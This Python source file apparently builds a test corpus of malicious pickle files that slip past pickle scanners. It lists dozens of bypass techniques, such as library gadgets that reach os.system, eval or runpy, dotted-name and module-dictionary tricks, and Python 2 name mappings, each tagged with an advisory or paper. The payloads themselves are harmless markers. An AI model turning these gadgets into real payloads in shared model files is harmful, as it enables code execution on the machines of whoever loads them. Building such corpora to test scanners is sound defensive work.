"""Pickles that call what they should not, in ways that earlier corpora of public proofs rarely use."""

# ruff: noqa: E501, S108 - one technique a line, however long; paths in payloads that nothing runs

from .kit import EVIL, MARK, call, calling, enter_all, literal, name_of, program, stacked, technique

ECHO = f"echo {MARK}"
CODE = f"print('{MARK}')"
_HIDE = "Liu et al. 2025, The Art of Hide and Seek, arXiv:2508.19774 (133 gadgets in libraries)"

enter_all(
    "picklescan advisories of 2025 and 2026 (CVE-2026-56315 and its kin: modules of the standard library not on its list)",
    "global",
    "model.pkl",
    {
        "function_made_by_dataclasses": calling("dataclasses", "_create_fn", "f", [], [CODE]),
        "formula_of_tcl": calling("_tkinter", "create", None, "x", "Tk", 0, 1, 0, 0, None),
        "subinterpreter_of_tests": calling("_testcapi", "run_in_subinterp", CODE),
        "modulefinder_runs": calling("runpy", "_run_code", CODE, {}),
        "worker_of_a_process_pool": calling(
            "concurrent.futures.process", "_process_worker", None, None, None, []
        ),
        "when_collected": program(
            call(
                name_of("weakref", "finalize"), name_of("collections", "OrderedDict"), name_of("os", "abort")
            )
        ),
        "browser_started": calling("webbrowser", "BackgroundBrowser", "echo"),
        "mail_capabilities_tested": calling(
            "mailcap", "findmatch", {"a/b": [{"view": "x", "test": ECHO}]}, "a/b"
        ),
        "codec_imported": calling("codecs", "lookup", MARK),
        "file_truncated_by_dbm": calling("dbm.dumb", "open", f"/tmp/{MARK}", "n"),
        "archive_made_by_zipapp": calling("zipapp", "create_archive", ".", f"/tmp/{MARK}"),
    },
)

enter_all(
    _HIDE,
    "global",
    "model.pkl",
    {
        "image_math_of_pillow": calling("PIL.ImageMath", "eval", CODE),
        "method_behind_a_dot_of_pandas": program(
            call(stacked("pandas.core.frame", "DataFrame.to_csv"), literal(None), literal(f"/tmp/{MARK}"))
        ),
        "pickle_read_by_statsmodels": calling("statsmodels.iolib.smpickle", "load_pickle", "/tmp/x"),
        "pickle_read_by_gensim": calling("gensim.utils", "unpickle", "/tmp/x"),
        "memory_by_strides": program(
            call(
                name_of("numpy.lib.stride_tricks", "as_strided"),
                call(name_of("numpy", "zeros"), literal(1)),
                literal((1 << 30,)),
                literal((8,)),
            )
        ),
        "integral_of_a_command": program(
            call(name_of("scipy.integrate", "quad"), name_of("os", "system"), literal(0), literal(1))
        ),
        "minimum_of_eval": program(
            call(name_of("scipy.optimize", "minimize"), name_of("builtins", "eval"), literal([0.0]))
        ),
        "native_callback_of_scipy": program(call(name_of("scipy", "LowLevelCallable"), literal(0))),
        "remote_data_of_sklearn": calling("sklearn.datasets._base", "load_files", "/"),
        "batch_of_joblib": program(
            call(
                name_of("joblib.parallel", "BatchedCalls"),
                b"](" + name_of("os", "system") + literal((ECHO,)) + literal({}) + b"ta",
                literal(("threading", 1)),
            )
        ),
        "class_from_bytes_of_loky": program(
            call(
                name_of("joblib.externals.loky.cloudpickle_wrapper", "_reconstruct_wrapper"),
                literal(EVIL),
                literal(False),
            )
        ),
        "fx_of_a_package": calling("torch.fx.graph_module", "reduce_package_graph_module", None, {}, "x"),
        "library_of_torch_ops": program(
            call(stacked("torch", "ops.load_library"), literal(f"/tmp/{MARK}.so"))
        ),
        "rpc_of_torch": calling("torch.distributed.rpc.internal", "_run_function", EVIL),
        "parameter_made_of_a_call": program(
            call(
                name_of("torch._utils", "_rebuild_parameter"),
                call(name_of("os", "system"), literal(ECHO)),
                literal(True),
            )
        ),
        "function_rebuilt_by_numba": calling("numba.core.serialize", "_unpickle__CustomPickled", EVIL),
        "layer_function_of_keras": calling("keras.src.utils.python_utils", "func_load", "4wAAAAA="),
        "object_of_keras": calling(
            "keras.src.saving.serialization_lib", "deserialize_keras_object", {"class_name": "function"}
        ),
        "process_of_psutil": calling("psutil", "Popen", ["echo", MARK]),
        "terminal_of_pexpect": calling("pexpect", "run", ECHO),
        "gateway_of_spark": calling("pyspark.java_gateway", "launch_gateway"),
        "filesystem_of_fsspec": calling("fsspec.core", "open_local", "http://localhost/x"),
        "spawned_by_setuptools": calling("setuptools._distutils.spawn", "spawn", ["echo", MARK]),
        "handle_of_dill": calling(
            "dill._dill", "_create_filehandle", f"/tmp/{MARK}", "w", 0, False, False, 0, ""
        ),
        "skeleton_of_cloudpickle": program(
            call(
                name_of("joblib.externals.cloudpickle.cloudpickle", "_make_skeleton_class"),
                name_of("builtins", "type"),
                literal("X"),
                literal(()),
                literal({}),
                literal(None),
                literal(None),
            )
        ),
    },
)

_DOTS = "Python documentation, pickle: STACK_GLOBAL follows dots since protocol 4 (PEP 3154)"


@technique(_DOTS, "global")
def array_dumped_to_a_file():
    return program(
        call(
            stacked("numpy", "ndarray.tofile"),
            call(name_of("numpy", "ndarray"), literal((1,))),
            literal(f"/tmp/{MARK}"),
        )
    )


@technique(_DOTS, "global")
def module_behind_a_listed_module():
    return program(call(stacked("sklearn.tree._classes", "numbers.sys.exit"), literal(0)))


@technique(_DOTS, "global")
def builtins_of_a_listed_module():
    return program(stacked("copyreg", "__builtins__"), literal("eval"), literal(0) + b"s")


@technique("PEP 562: a package's own __getattr__ imports what it is asked for", "global")
def getattr_of_a_package():
    return program(call(name_of("scipy", "__getattr__"), literal("io")))


_ITEMS = "Python documentation, pickle: SETITEM, APPEND and BUILD act on any object, without a call"


@technique(_ITEMS, "global")
def module_dictionary_overwritten():
    return program(
        name_of("numpy", "random"),
        b"}" + literal("RandomState") + name_of("collections", "OrderedDict") + b"sb",
    )


@technique("ShadowPickle, arXiv:2607.17503 (listed names overwritten)", "class changed")
def base_of_a_listed_class_replaced():
    replaced = b"}" + literal("__setstate__") + name_of("joblib.numpy_pickle", "NumpyArrayWrapper") + b"s"
    return program(name_of("sklearn.base", "BaseEstimator"), b"N", replaced, b"\x86b")


@technique("CPython, Lib/_compat_pickle.py: names of Python 2 are mapped", "global")
def urllib_of_python_2():
    return program(call(name_of("urllib", "urlretrieve"), literal("http://localhost/x")), protocol=2)


@technique("CPython, Lib/_compat_pickle.py: names of Python 2 are mapped", "global")
def reduce_of_python_2():
    return program(
        call(name_of("__builtin__", "reduce"), name_of("__builtin__", "apply"), literal([])), protocol=0
    )
